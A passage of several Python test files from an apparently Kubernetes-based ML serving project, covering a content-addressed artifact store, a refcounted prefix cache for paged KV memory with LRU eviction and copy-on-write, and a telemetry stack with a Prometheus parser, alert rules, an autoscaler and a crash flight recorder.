        with urllib.request.urlopen(f"http://127.0.0.1:{port}/index.json") as r:
            assert json.load(r)["k8s"]
    finally:
        server.shutdown()


# -- content-addressed artifact store -----------------------------------


def test_cas_roundtrip_publish_fetch_digest_verify(tmp_path):
    store = ArtifactStore(str(tmp_path))
    blob = b"neff-bytes" * 100
    digest = compile_key("kernel source text", {"opt": "O2", "shape": [1, 128]})
    meta = store.publish(digest, blob, meta={"kernel": "attention_nki"})
    assert store.has(digest)
    assert meta["content_sha256"] == content_digest(blob)

    got, got_meta = store.fetch(digest)
    assert got == blob
    assert got_meta["bytes"] == len(blob)
    assert got_meta["kernel"] == "attention_nki"
    assert content_digest(got) == got_meta["content_sha256"]
    assert store.list_digests() == [digest]
    assert store.verify() == {"ok": [digest], "corrupt": []}


def test_cas_compile_key_changes_with_source_and_flags():
    base = compile_key("src", {"opt": "O2"})
    assert compile_key("src2", {"opt": "O2"}) != base
    assert compile_key("src", {"opt": "O1"}) != base
    # canonicalized flags: dict order must not matter
    assert compile_key("src", {"a": 1, "b": 2}) == compile_key(
        "src", {"b": 2, "a": 1})


def test_cas_corrupt_and_truncated_artifact_rejected(tmp_path):
    store = ArtifactStore(str(tmp_path))
    blob = b"x" * 4096
    digest = compile_key("src", {"n": 1})
    store.publish(digest, blob)

    blob_path = os.path.join(store._entry_dir(digest), "blob")
    # truncation (size mismatch)
    with open(blob_path, "wb") as f:
        f.write(blob[:100])
    with pytest.raises(ArtifactCorrupt):
        store.fetch(digest)
    # same-size bit rot (content hash mismatch)
    with open(blob_path, "wb") as f:
        f.write(b"y" * 4096)
    with pytest.raises(ArtifactCorrupt):
        store.fetch(digest)
    assert store.verify()["corrupt"] == [digest]
    # a missing entry is a KeyError, not a corruption
    with pytest.raises(KeyError):
        store.fetch("0" * 64)


def test_cas_concurrent_publish_same_digest(tmp_path):
    store = ArtifactStore(str(tmp_path))
    blob = b"shared-artifact" * 256
    digest = compile_key("src", {"race": True})
    errors = []

    def _publish():
        try:
            store.publish(digest, blob, meta={"k": "v"})
        except Exception as exc:  # noqa: BLE001 — the assertion below
            errors.append(exc)

    threads = [threading.Thread(target=_publish) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    got, meta = store.fetch(digest)
    assert got == blob and meta["k"] == "v"
    assert store.list_digests() == [digest]


def test_cas_warm_into_idempotent_and_skips_corrupt(tmp_path):
    store = ArtifactStore(str(tmp_path / "mirror"))
    cache = str(tmp_path / "cache")
    digests = []
    for i in range(3):
        d = compile_key(f"src{i}", {})
        store.publish(d, f"blob{i}".encode() * 10,
                      meta={"cache_path": f"mod/m{i}.neff"})
        digests.append(d)
    # one artifact without a cache_path: warm must skip it
    extra = compile_key("no-path", {})
    store.publish(extra, b"opaque")

    w1 = store.warm_into(cache)
    assert sorted(w1["installed"]) == sorted(digests)
    assert extra in w1["skipped"] and not w1["corrupt"]
    for i in range(3):
        assert os.path.exists(os.path.join(cache, "mod", f"m{i}.neff"))

    # second warm: everything already present
    w2 = store.warm_into(cache)
    assert not w2["installed"] and not w2["corrupt"]

    # corrupt one entry and delete its installed copy: the re-warm must
    # count it corrupt and must NOT install the bad bytes
    victim = digests[0]
    with open(os.path.join(store._entry_dir(victim), "blob"), "wb") as f:
        f.write(b"zz")
    installed_path = os.path.join(
        cache, store.meta(victim)["cache_path"])
    os.remove(installed_path)
    w3 = store.warm_into(cache)
    assert w3["corrupt"] == [victim]
    assert not os.path.exists(installed_path)
