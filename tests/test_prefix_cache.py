"""Prefix-cache correctness pins (ISSUE 13).

Four subsystems previously assumed exclusive block ownership; these
tests pin the sharing contract at each layer: the refcounting allocator
(lifecycle, strict double-/foreign-/shared-free), the radix tree
(match/insert/partial/LRU), the COW fork (source bytes survive the
copy), and the scheduler's admission (hits skip prefill, eviction never
touches live blocks, a mostly-cached pool can't deadlock admission).
"""

import numpy as np
import pytest

from kubeoperator_trn.infer.paged_kv import BlockAllocator, init_pool
from kubeoperator_trn.infer.prefix_cache import PrefixCache
from kubeoperator_trn.infer.scheduler import (
    ContinuousBatchingScheduler, SchedulerConfig)
from kubeoperator_trn.models import llama
from kubeoperator_trn.telemetry import MetricsRegistry

CFG = llama.PRESETS["llama3_tiny"]


@pytest.fixture(scope="module")
def params():
    return llama.init_params_numpy(CFG, 7)


def make_sched(params, **kw):
    kw.setdefault("slots", 4)
    kw.setdefault("block_size", 8)
    kw.setdefault("prefill_chunk", 8)
    sc = SchedulerConfig(**kw)
    return ContinuousBatchingScheduler(CFG, params, sc,
                                       registry=MetricsRegistry())


def drain(sched, max_steps=4000):
    steps = 0
    while sched.pending:
        sched.step()
        steps += 1
        assert steps < max_steps, "scheduler did not converge"
    return steps


def make_cache(num_blocks=16, block_size=4, max_cached=0):
    alloc = BlockAllocator(num_blocks)
    return alloc, PrefixCache(alloc, block_size, max_cached=max_cached,
                              registry=MetricsRegistry())


# ------------------------------------------------- refcounted allocator

def test_refcount_lifecycle_used_cached_free():
    a = BlockAllocator(4)
    (b,) = a.alloc(1)
    assert a.refcount(b) == 1 and not a.is_cached(b)
    assert a.incref(b) == 2
    assert a.decref(b) == 1
    # last reference with retain: used -> cached, not free
    assert a.decref(b, retain=True) == 0
    assert a.is_cached(b) and a.num_cached == 1 and a.num_used == 0
    assert a.num_free == 2, "cached block must not be on the free list"
    # revive: cached -> used at refcount 1
    assert a.incref(b) == 1
    assert not a.is_cached(b) and a.refcount(b) == 1
    # last reference without retain: straight to the free list
    assert a.decref(b) == 0
    assert a.num_free == 3 and a.num_cached == 0
    assert a.stats() == {"capacity": 3, "free": 3, "used": 0, "cached": 0}


def test_free_still_raises_on_double_and_foreign_free():
    a = BlockAllocator(6)
    x = a.alloc(2)
    a.free(x)
    with pytest.raises(ValueError):
        a.free(x)                   # double free
    with pytest.raises(ValueError):
        a.free([0])                 # scratch block
    with pytest.raises(ValueError):
        a.decref(x[0])              # decref of a freed block
    with pytest.raises(ValueError):
        a.incref(x[0])              # sharing a recycled block


def test_free_refuses_shared_blocks():
    a = BlockAllocator(4)
    (b,) = a.alloc(1)
    a.incref(b)
    with pytest.raises(ValueError):
        a.free([b])                 # refcount 2: freeing would corrupt
    a.decref(b)
    a.free([b])                     # sole owner again: legacy path ok
    assert a.num_free == a.capacity


def test_reclaim_only_accepts_cached_blocks():
    a = BlockAllocator(4)
    (b,) = a.alloc(1)
    with pytest.raises(ValueError):
        a.reclaim(b)                # live
    with pytest.raises(ValueError):
        a.reclaim(0)                # never allocated
    a.decref(b, retain=True)
    a.reclaim(b)
    assert a.num_free == a.capacity
    with pytest.raises(ValueError):
        a.reclaim(b)                # already free


# ------------------------------------------------------------ radix tree

def test_match_insert_roundtrip_and_pinning():
    alloc, cache = make_cache(block_size=4)
    toks = list(range(100, 110))            # 10 tokens -> 2 full blocks
    blocks = alloc.alloc(3)
    cache.insert(toks, blocks, n_tokens=10)
    assert cache.in_tree(blocks[0]) and cache.in_tree(blocks[1])
    assert not cache.in_tree(blocks[2]), "partial block is never indexed"
    m = cache.match(toks, max_tokens=9)
    assert m.blocks == blocks[:2] and m.partial is None
    assert m.tokens == 8
    assert alloc.refcount(blocks[0]) == 2, "match must pin its blocks"
    cache.cancel_match(m)
    assert alloc.refcount(blocks[0]) == 1


def test_match_partial_block_is_cow_candidate():
    alloc, cache = make_cache(block_size=4)
    toks = list(range(200, 208))            # 2 full blocks
    blocks = alloc.alloc(2)
    cache.insert(toks, blocks, n_tokens=8)
    # diverges inside the second block: 2 matching tokens then a split
    q = toks[:6] + [999, 998]
    m = cache.match(q, max_tokens=7)
    assert m.blocks == [blocks[0]]
    assert m.partial == blocks[1] and m.partial_len == 2
    assert m.tokens == 6
    assert alloc.refcount(blocks[1]) == 2, "partial match pins too"
    cache.cancel_match(m)
    # the max_tokens cap turns a would-be full match into a partial one
    m = cache.match(toks, max_tokens=7)
    assert m.blocks == [blocks[0]]
    assert m.partial == blocks[1] and m.partial_len == 3
    cache.cancel_match(m)


def test_release_retains_tree_blocks_and_frees_private_ones():
    alloc, cache = make_cache(block_size=4)
    toks = list(range(50, 58))
    blocks = alloc.alloc(3)                 # 2 indexed + 1 private
    cache.insert(toks, blocks, n_tokens=8)
    cache.release(blocks)
    assert alloc.is_cached(blocks[0]) and alloc.is_cached(blocks[1])
    assert not alloc.is_cached(blocks[2]), "private block goes to free"
    assert alloc.num_free == alloc.capacity - 2


def test_lru_eviction_leaf_first_and_never_touches_live_blocks():
    alloc, cache = make_cache(num_blocks=32, block_size=4)
    old = alloc.alloc(2)
    cache.insert(list(range(0, 8)), old, n_tokens=8)
    new = alloc.alloc(2)
    cache.insert(list(range(40, 48)), new, n_tokens=8)
    # pin the old chain alive; retire the new one into the cached state
    cache.release(new)
    assert alloc.num_cached == 2
    # evicting one block must take the NEW chain's LEAF (deepest block),
    # not its root — and never the old chain, which holds references
    assert cache.evict(1) == 1
    assert not cache.in_tree(new[1]) and cache.in_tree(new[0])
    assert alloc.refcount(old[0]) == 1 and cache.in_tree(old[0])
    # asking for more than is evictable only reclaims the rc-0 blocks
    assert cache.evict(10) == 1
    assert alloc.num_cached == 0
    assert alloc.refcount(old[0]) == 1, "live blocks are untouchable"
    cache.release(old)
    assert alloc.num_cached == 2, "tree-indexed release retains"


def test_lru_order_prefers_least_recently_matched():
    alloc, cache = make_cache(num_blocks=32, block_size=4)
    a = alloc.alloc(1)
    cache.insert(list(range(0, 4)), a, n_tokens=4)
    b = alloc.alloc(1)
    cache.insert(list(range(10, 14)), b, n_tokens=4)
    cache.release(a)
    cache.release(b)
    # touch a: now b is the LRU leaf
    m = cache.match(list(range(0, 4)) + [1], max_tokens=4)
    cache.cancel_match(m)
    cache.evict(1)
    assert not cache.in_tree(b[0]) and cache.in_tree(a[0])


def test_trim_bounds_cached_blocks():
    alloc, cache = make_cache(num_blocks=32, block_size=4, max_cached=2)
    for i in range(4):
        blk = alloc.alloc(1)
        cache.insert(list(range(100 * i, 100 * i + 4)), blk, n_tokens=4)
        cache.release(blk)
    assert alloc.num_cached == 4
    cache.trim()
    assert alloc.num_cached == 2, "KO_INFER_PREFIX_EVICT cap"
    assert alloc.num_free == alloc.capacity - 2


def test_clear_reclaims_everything():
    alloc, cache = make_cache(block_size=4)
    blk = alloc.alloc(2)
    cache.insert(list(range(8)), blk, n_tokens=8)
    cache.release(blk)
    assert cache.clear() == 2
    assert alloc.num_free == alloc.capacity and len(cache) == 0


# --------------------------------------------------------------- COW fork

def test_cow_copy_preserves_source_bytes():
    import jax.numpy as jnp

    from kubeoperator_trn.infer.engine import paged_copy_block

    pool = init_pool(CFG, num_blocks=4, block_size=8)
    pool = pool._replace(k=pool.k.at[:, 1].set(1.25),
                         v=pool.v.at[:, 1].set(-2.5))
    out = paged_copy_block(CFG, pool, 1, 3)
    assert bool(jnp.all(out.k[:, 3] == 1.25)) and \
        bool(jnp.all(out.v[:, 3] == -2.5))
    assert bool(jnp.all(out.k[:, 1] == 1.25)), "source must survive"
    assert bool(jnp.all(out.k[:, 2] == 0.0)), "bystander block untouched"
    # diverge the copy: the source still holds its original bytes
    out = out._replace(k=out.k.at[:, 3].set(9.0))
    assert bool(jnp.all(out.k[:, 1] == 1.25))


# -------------------------------------------------- scheduler integration

def test_prefix_hit_skips_prefill_and_counts(params):
    rng = np.random.default_rng(3)
    shared = rng.integers(0, CFG.vocab_size, size=24).astype(np.int32)
    s = make_sched(params)
    warm = s.submit(np.concatenate([shared, [5]]).astype(np.int32),
                    max_new_tokens=2)
    drain(s)
    assert warm.done and s.m["prefix_hits"].value == 0
    h = s.submit(np.concatenate([shared, [6, 7]]).astype(np.int32),
                 max_new_tokens=2)
    s.step()   # admission maps 3 cached blocks; prefill starts at 24
    assert h.prefix_tokens == 24
    assert h.pos >= 24, "matched prefix must never re-prefill"
    assert s.m["prefix_hits"].value == 1
    assert s.m["prefix_tokens_saved"].value == 24
    drain(s)
    assert h.done


def test_prefix_hit_output_parity_with_cache_off(params):
    rng = np.random.default_rng(11)
    shared = rng.integers(0, CFG.vocab_size, size=20).astype(np.int32)
    prompts = [np.concatenate([shared,
                               rng.integers(0, CFG.vocab_size, size=k)
                               .astype(np.int32)])
               for k in (1, 3, 5, 2)]

    def run(prefix_cache):
        s = make_sched(params, prefix_cache=prefix_cache)
        outs = []
        for _ in range(2):   # second pass hits the warm cache
            hs = [s.submit(p, max_new_tokens=5) for p in prompts]
            drain(s)
            outs.append([h.result(timeout=0) for h in hs])
        return outs, s

    on_outs, s_on = run(True)
    off_outs, _ = run(False)
    assert on_outs == off_outs, \
        "cached-prefix decode must be bit-identical at temperature 0"
    assert s_on.m["prefix_hits"].value >= len(prompts), \
        "second pass must hit (shared 20 tokens = 2 full blocks)"


def test_mostly_cached_pool_admission_cannot_deadlock(params):
    # Fill the cache until retained blocks dominate the pool, then admit
    # a request whose demand exceeds the free list: _reserve must evict
    # refcount-0 blocks (never live ones) and admission must complete.
    s = make_sched(params, num_blocks=17, max_seq=64)   # capacity 16
    rng = np.random.default_rng(9)
    for i in range(6):
        p = rng.integers(0, CFG.vocab_size, size=16).astype(np.int32)
        s.submit(p, max_new_tokens=2)
        drain(s)
    assert s.alloc.num_cached > s.alloc.num_free, "pool is mostly cached"
    evicted0 = s.prefix._c_evict.value
    h = s.submit(rng.integers(0, CFG.vocab_size, size=40).astype(np.int32),
                 max_new_tokens=16)                     # needs 7 blocks
    drain(s)
    assert h.done and len(h.tokens) == 16
    assert s.prefix._c_evict.value > evicted0, "pressure must evict"
    assert s.alloc.num_used == 0
    assert s.alloc.num_free + s.alloc.num_cached == s.alloc.capacity


def test_eviction_metrics_and_healthz_cached_blocks(params):
    s = make_sched(params)
    rng = np.random.default_rng(2)
    p = rng.integers(0, CFG.vocab_size, size=16).astype(np.int32)
    s.submit(p, max_new_tokens=2)
    drain(s)
    assert s.alloc.num_cached >= 2
    # the same registry the /metrics endpoint would expose
    reg = s.prefix._g_cached
    assert reg.value == s.alloc.num_cached
