"""Observability-plane tests (ISSUE 8): Prometheus text parser, the
bounded series store and its cluster rollups, collector scrape loop +
staleness, the SLO rule state machine, the metric-driven autoscaler,
the crash flight recorder, spans.jsonl rotation, and the end-to-end
collector->rules->autoscaler->API loop over a real ops server."""

import json

import pytest

from kubeoperator_trn.telemetry import metrics as M
from kubeoperator_trn.telemetry import tracing as T
from kubeoperator_trn.telemetry.collector import Collector
from kubeoperator_trn.telemetry.flight import (
    find_flight_records, load_flight_record, write_flight_record,
)
from kubeoperator_trn.telemetry.rules import RuleEngine
from kubeoperator_trn.telemetry.store import SeriesStore, parse_prometheus_text


class FakeClock:
    def __init__(self, t=1000.0):
        self.t = t

    def __call__(self):
        return self.t

    def tick(self, dt=5.0):
        self.t += dt
        return self.t


# -- parser -------------------------------------------------------------

def test_parse_prometheus_text_samples_labels_escapes():
    text = (
        "# HELP ko_x total\n"
        "# TYPE ko_x counter\n"
        "ko_x 3\n"
        'ko_y{code="200",path="a\\"b\\\\c\\nd"} 1.5\n'
        "garbage line without value\n"
        "ko_bad not_a_number\n"
        'ko_inf{le="+Inf"} 7\n')
    samples = parse_prometheus_text(text)
    assert ("ko_x", {}, 3.0) in samples
    assert ("ko_y", {"code": "200", "path": 'a"b\\c\nd'}, 1.5) in samples
    assert ("ko_inf", {"le": "+Inf"}, 7.0) in samples
    assert len(samples) == 3  # comments + malformed skipped


def test_parser_roundtrips_own_exposition():
    r = M.MetricsRegistry()
    r.counter("ko_t_total", "t", ("k",)).labels(k="v").inc(2)
    r.gauge("ko_t_depth", "d").set(4)
    samples = parse_prometheus_text(r.to_prometheus())
    assert ("ko_t_total", {"k": "v"}, 2.0) in samples
    assert ("ko_t_depth", {}, 4.0) in samples


# -- series store -------------------------------------------------------

def test_store_rollups_and_stale_series_excluded():
    clk = FakeClock()
    store = SeriesStore(now_fn=clk)
    store.append("ko_g", {"target": "a"}, 1.0)
    store.append("ko_g", {"target": "b"}, 3.0)
    assert store.query("ko_g", op="sum") == 4.0
    assert store.query("ko_g", op="avg") == 2.0
    assert store.query("ko_g", op="max") == 3.0
    assert store.query("ko_g", op="min") == 1.0
    assert store.query("ko_g", op="max", match={"target": "a"}) == 1.0
    # target b stops reporting: its last point ages out of the window
    clk.tick(40)
    store.append("ko_g", {"target": "a"}, 5.0)
    assert store.query("ko_g", op="max", window_s=30) == 5.0
    assert store.query("ko_g", op="sum", window_s=30) == 5.0
    # nothing fresh at all -> None (condition unknown, not zero)
    clk.tick(100)
    assert store.query("ko_g", op="max", window_s=30) is None
    with pytest.raises(ValueError):
        store.query("ko_g", op="median")


def test_store_rate_sums_targets_and_clamps_counter_reset():
    clk = FakeClock()
    store = SeriesStore(now_fn=clk)
    for v in (0, 10, 20):  # +20 over 20s on target a
        store.append("ko_c_total", {"target": "a"}, v)
        clk.tick(10)
    # target b restarts mid-window: 100 -> 5 is a reset, not -95
    clk.t = 1000.0
    for v in (90, 100, 5):
        store.append("ko_c_total", {"target": "b"}, v)
        clk.tick(10)
    rate = store.query("ko_c_total", op="rate", window_s=60)
    # a: 20/20s = 1.0; b: (100-90)+5 = 15 over 20s = 0.75
    assert rate == pytest.approx(1.75)


def test_store_p95_across_replicas_uses_window_deltas():
    clk = FakeClock()
    store = SeriesStore(now_fn=clk)

    def push(target, fast, slow):
        total = fast + slow
        for le, v in (("0.1", fast), ("1.0", total), ("+Inf", total)):
            store.append("ko_lat_seconds_bucket",
                         {"target": target, "le": le}, v)

    # replica a accumulated 1000 fast observations long ago...
    push("a", 1000, 0)
    clk.tick(5)
    push("a", 1000, 0)
    # ...replica b serves a few slow ones inside the window
    push("b", 0, 2)
    clk.tick(5)
    push("b", 0, 30)
    p95 = store.query("ko_lat_seconds", op="p95", window_s=30)
    # deltas: a contributed nothing, b's 28 all land in (0.1, 1.0]
    assert p95 is not None and 0.1 < p95 <= 1.0
    # quiet window (no increments anywhere): absolute counts answer,
    # and there a's 1000 fast observations dominate b's 30 slow ones
    clk.tick(3)
    push("a", 1000, 0)
    push("b", 0, 30)
    clk.tick(3)
    push("a", 1000, 0)
    push("b", 0, 30)
    p95_idle = store.query("ko_lat_seconds", op="p95", window_s=10)
    assert p95_idle is not None and p95_idle <= 0.1


def test_store_retention_prunes_series():
    clk = FakeClock()
    store = SeriesStore(retention_s=60, now_fn=clk)
    store.append("ko_g", {"target": "a"}, 1.0)
    assert store.series_count() == 1
    clk.tick(120)
    assert store.prune() == 1
    assert store.series_count() == 0


# -- collector ----------------------------------------------------------

def test_collector_scrape_staleness_and_hooks():
    clk = FakeClock()
    coll = Collector(scrape_s=5, stale_after_s=12, now_fn=clk,
                     registry=M.MetricsRegistry())
    state = {"text": "ko_g 1\n", "dead": False}

    def fetch():
        if state["dead"]:
            raise ConnectionError("gone")
        return state["text"]

    hook_calls = []
    coll.hooks.append(lambda: hook_calls.append(clk()))
    coll.hooks.append(lambda: 1 / 0)  # a bad hook must not stop scraping
    coll.add_target("a", fetch=fetch, labels={"job": "test"})
    out = coll.scrape_once()
    assert out["a"] == {"ok": True, "samples": 1}
    assert coll.store.query("ko_g", op="latest") == 1.0
    assert hook_calls == [clk()]
    [t] = coll.targets()
    assert not t["stale"] and t["error"] is None

    # target dies: error captured, stale once past stale_after_s
    state["dead"] = True
    clk.tick(5)
    out = coll.scrape_once()
    assert not out["a"]["ok"] and "ConnectionError" in out["a"]["error"]
    [t] = coll.targets()
    assert not t["stale"]  # only 5s since last_ok
    clk.tick(10)
    coll.scrape_once()
    [t] = coll.targets()
    assert t["stale"] and "ConnectionError" in t["error"]
    assert coll.freshness()["stale_targets"] == 1
    assert len(hook_calls) == 3
    assert coll.remove_target("a") and not coll.remove_target("a")


def test_collector_target_registration_validation():
    coll = Collector(registry=M.MetricsRegistry())
    with pytest.raises(ValueError):
        coll.add_target("", url="http://x/metrics")
    with pytest.raises(ValueError):
        coll.add_target("a")  # neither url nor fetch


# -- rule engine --------------------------------------------------------

def _mk_engine(clk, rules):
    store = SeriesStore(now_fn=clk)
    eng = RuleEngine(store, rules=rules, now_fn=clk,
                     registry=M.MetricsRegistry())
    return store, eng


def test_rule_state_machine_for_s_then_fire_then_resolve():
    clk = FakeClock()
    rule = {"name": "hot", "expr": {"metric": "ko_g", "op": "max",
                                    "window_s": 30},
            "above": 5.0, "for_s": 10, "severity": "warning",
            "route": ["notify"]}
    store, eng = _mk_engine(clk, [rule])
    store.append("ko_g", {"target": "a"}, 1.0)
    assert eng.evaluate() == []  # below threshold: inactive
    store.append("ko_g", {"target": "a"}, 9.0)
    assert eng.evaluate() == [("hot", "inactive", "pending")]
    clk.tick(5)
    store.append("ko_g", {"target": "a"}, 9.0)
    assert eng.evaluate() == []  # 5s < for_s: still pending
    clk.tick(6)
    store.append("ko_g", {"target": "a"}, 9.0)
    assert eng.evaluate() == [("hot", "pending", "firing")]
    assert [a["name"] for a in eng.active()] == ["hot"]
    # drop below: firing -> resolved -> inactive
    store.append("ko_g", {"target": "a"}, 1.0)
    assert eng.evaluate() == [("hot", "firing", "resolved")]
    assert eng.active() == []
    assert eng.evaluate() == [("hot", "resolved", "inactive")]


def test_rule_never_fires_on_missing_data():
    clk = FakeClock()
    rule = {"name": "hot", "expr": {"metric": "ko_g", "op": "max",
                                    "window_s": 10},
            "above": 5.0, "for_s": 0, "route": []}
    store, eng = _mk_engine(clk, [rule])
    store.append("ko_g", {"target": "a"}, 9.0)
    eng.evaluate()
    clk.tick(1)
    assert eng.evaluate() == [("hot", "pending", "firing")]
    # data ages out entirely: unknown condition resolves, never holds
    clk.tick(60)
    assert eng.evaluate() == [("hot", "firing", "resolved")]
    assert eng.evaluate() == [("hot", "resolved", "inactive")]
    assert eng.evaluate() == []  # and stays inactive without data


def test_rule_validation_and_route_filter():
    clk = FakeClock()
    _, eng = _mk_engine(clk, [])
    with pytest.raises(ValueError):
        eng.add_rule({"name": "x", "expr": {"metric": "m"},
                      "above": 1, "below": 2})
    with pytest.raises(ValueError):
        eng.add_rule({"name": "x", "expr": {"metric": "m"}})
    eng.add_rule({"name": "a", "expr": {"metric": "m"}, "above": 1,
                  "route": ["doctor"]})
    eng.add_rule({"name": "b", "expr": {"metric": "m"}, "below": 1,
                  "route": ["autoscale"]})
    assert [a["name"] for a in eng.alerts(route="doctor")] == ["a"]
    assert [a["name"] for a in eng.alerts(route="autoscale")] == ["b"]
    assert eng.remove_rule("a") and not eng.remove_rule("a")


# -- autoscaler ---------------------------------------------------------

class _StubDB:
    def __init__(self, apps, clusters):
        self.tables = {"apps": apps, "clusters": clusters}
        self.puts = []

    def list(self, table):
        return list(self.tables[table].values())

    def get(self, table, id):
        return self.tables[table].get(id)


class _StubService:
    """Mimics ClusterService.scale_app: applies replicas, returns task."""

    def __init__(self, db):
        self.db = db
        self.calls = []

    def scale_app(self, cluster_id, app_id, replicas, reason=""):
        self.calls.append((app_id, replicas, reason))
        app = self.db.get("apps", app_id)
        app["manifest"]["spec"]["replicas"] = replicas
        return {"id": f"task-{len(self.calls)}"}


class _StubRules:
    def __init__(self):
        self.firing = []

    def active(self, route=None):
        return list(self.firing)


def _mk_autoscaler(replicas=1, min_r=1, max_r=3):
    from kubeoperator_trn.cluster.autoscaler import ServeAutoscaler

    app = {"id": "app1", "name": "serve", "cluster_id": "c1",
           "template": "llama3-8b-serve",
           "manifest": {"kind": "Deployment",
                        "spec": {"replicas": replicas},
                        "ko": {"min_replicas": min_r,
                               "max_replicas": max_r}}}
    db = _StubDB({"app1": app}, {"c1": {"id": "c1", "name": "c"}})
    svc = _StubService(db)
    rules = _StubRules()
    clk = FakeClock()
    asc = ServeAutoscaler(db, svc, rules, cooldown_s=30, step=1,
                          now_fn=clk, registry=M.MetricsRegistry())
    return asc, db, svc, rules, clk


def _alert(name, scale):
    return {"name": name, "state": "firing", "scale": scale,
            "route": ["autoscale"]}


def test_autoscaler_up_cooldown_then_down():
    asc, db, svc, rules, clk = _mk_autoscaler()
    assert asc.tick() == []  # nothing firing, no move
    rules.firing = [_alert("ttft", "up")]
    [d] = asc.tick()
    assert (d["direction"], d["from"], d["to"]) == ("up", 1, 2)
    assert db.get("apps", "app1")["manifest"]["spec"]["replicas"] == 2
    clk.tick(5)
    assert asc.tick() == []  # cooldown gates the second move
    clk.tick(40)
    [d] = asc.tick()
    assert d["to"] == 3
    clk.tick(40)
    assert asc.tick() == []  # at max_replicas: clamped, no decision
    rules.firing = [_alert("idle", "down")]
    clk.tick(40)
    [d] = asc.tick()
    assert (d["direction"], d["from"], d["to"]) == ("down", 3, 2)
    assert [c[1] for c in svc.calls] == [2, 3, 2]
    assert len(asc.recent()) == 3


def test_autoscaler_up_alert_vetoes_down():
    asc, db, svc, rules, clk = _mk_autoscaler(replicas=2)
    rules.firing = [_alert("idle", "down"), _alert("ttft", "up")]
    [d] = asc.tick()
    assert d["direction"] == "up"  # hysteresis: up wins over down


def test_autoscaler_respects_min_and_skips_non_serve():
    asc, db, svc, rules, clk = _mk_autoscaler(replicas=1)
    db.tables["apps"]["app2"] = {
        "id": "app2", "name": "train", "cluster_id": "c1",
        "template": "llama3-8b-pretrain",
        "manifest": {"kind": "Job", "spec": {"replicas": 4}}}
    rules.firing = [_alert("idle", "down")]
    assert asc.tick() == []  # already at min; training app untouched
    assert db.get("apps", "app2")["manifest"]["spec"]["replicas"] == 4
    assert svc.calls == []


def test_autoscaler_bounds_from_manifest_ko_block():
    from kubeoperator_trn.cluster.autoscaler import ServeAutoscaler

    app = {"template": "llama3-8b-serve",
           "manifest": {"ko": {"min_replicas": 2, "max_replicas": 5}}}
    assert ServeAutoscaler.bounds(app) == (2, 5)
    # falls back to template defaults when the ko block is absent
    assert ServeAutoscaler.bounds(
        {"template": "llama3-8b-serve", "manifest": {}}) == (1, 8)


# -- flight recorder ----------------------------------------------------

def test_flight_record_write_find_load(tmp_path):
    clk = FakeClock()
    coll = Collector(now_fn=clk, registry=M.MetricsRegistry())
    coll.add_target("a", fetch=lambda: "ko_g 7\n")
    coll.scrape_once()
    tracer = T.Tracer(now_fn=clk)
    with tracer.span("unit.work", attrs={"k": "v"}):
        pass
    task = {"id": "t-123", "op": "app", "trace_id": "abc"}
    path = write_flight_record(
        str(tmp_path), task, phase={"name": "app-deploy", "rc": 2},
        collector=coll, tracer=tracer, reason="phase app-deploy rc=2",
        now_fn=clk)
    assert path and find_flight_records(str(tmp_path)) == [path]
    rec = load_flight_record(path)
    assert rec["task_id"] == "t-123" and rec["rc"] == 2
    assert rec["phase"] == "app-deploy" and rec["trace_id"] == "abc"
    assert any(s["name"] == "ko_g" and s["value"] == 7.0
               for s in rec["samples"])
    assert [t["name"] for t in rec["targets"]] == ["a"]
    assert rec["spans"][-1]["name"] == "unit.work"
    # no dir configured -> no-op, never raises
    assert write_flight_record("", task) is None


def test_flight_record_tolerates_broken_collector(tmp_path):
    class Broken:
        @property
        def store(self):
            raise RuntimeError("down")

        def targets(self):
            raise RuntimeError("down")

    path = write_flight_record(str(tmp_path), {"id": "t"},
                               collector=Broken())
    rec = load_flight_record(path)
    assert rec["samples"] == [] and rec["targets"] == []


# -- spans.jsonl rotation (satellite) -----------------------------------

def test_spans_jsonl_rotates_at_size_cap(tmp_path):
    path = str(tmp_path / "spans.jsonl")
    tracer = T.Tracer()
    # ~190 bytes/span; cap at 2 KiB so a few dozen spans force rotation
    tracer.configure(path, max_mb=2048 / (1024 * 1024))
    for i in range(60):
        with tracer.span("rotate.me", attrs={"i": i}):
            pass
    import os

    assert os.path.exists(path) and os.path.exists(path + ".1")
    assert os.path.getsize(path) <= 2048
    assert os.path.getsize(path + ".1") <= 2048
    # both generations stay line-parseable and in emit order
    spans = []
    for p in (path + ".1", path):
        with open(p) as f:
            spans += [json.loads(line) for line in f]
    assert [s["attrs"]["i"] for s in spans] == sorted(
        s["attrs"]["i"] for s in spans)
    assert len(spans) < 60  # oldest generation was dropped
    tracer.configure(None)


def test_spans_rotation_disabled_by_default_zero_cap(tmp_path):
    path = str(tmp_path / "spans.jsonl")
    tracer = T.Tracer()
    tracer.configure(path, max_mb=0)
    for i in range(50):
        with tracer.span("nocap", attrs={"i": i}):
            pass
    import os

    assert not os.path.exists(path + ".1")
    with open(path) as f:
        assert len(f.readlines()) == 50
    tracer.configure(None)


# -- end-to-end: scrape -> rule -> autoscaler -> flight, via the API ----

def _serve_text(fast, slow, occ):
    total = fast + slow
    return (
        f'ko_work_infer_ttft_seconds_bucket{{le="0.05"}} {fast}\n'
        f'ko_work_infer_ttft_seconds_bucket{{le="0.5"}} {fast}\n'
        f'ko_work_infer_ttft_seconds_bucket{{le="2.0"}} {total}\n'
        f'ko_work_infer_ttft_seconds_bucket{{le="+Inf"}} {total}\n'
        f'ko_work_infer_ttft_seconds_count {total}\n'
        f'ko_work_infer_batch_occupancy_ratio {occ}\n')


def test_e2e_obs_loop_and_flight_recorder(tmp_path, monkeypatch):
    from kubeoperator_trn.cluster.api import make_server
    from kubeoperator_trn.cluster.autoscaler import ServeAutoscaler
    from kubeoperator_trn.cluster.runner import FakeRunner, PhaseResult
    from kubeoperator_trn.server import build_app
    from kubeoperator_trn.telemetry.rules import default_rules
    from tests.test_telemetry import _Client, _create_cluster

    monkeypatch.setenv("KO_OBS_FOR_S", "15")
    clk = FakeClock()
    # second app-deploy dies -> the engine must leave a flight record
    runner = FakeRunner(script={"app-deploy": [
        PhaseResult(ok=True, rc=0, summary="ok"),
        PhaseResult(ok=False, rc=2, summary="boom")]})
    api, engine, db = build_app(runner=runner, admin_password="pw")
    # rewire the obs plane onto the fake clock (same seams as the drill)
    store = SeriesStore(now_fn=clk)
    coll = Collector(store=store, scrape_s=5, stale_after_s=12, now_fn=clk,
                     registry=M.MetricsRegistry())
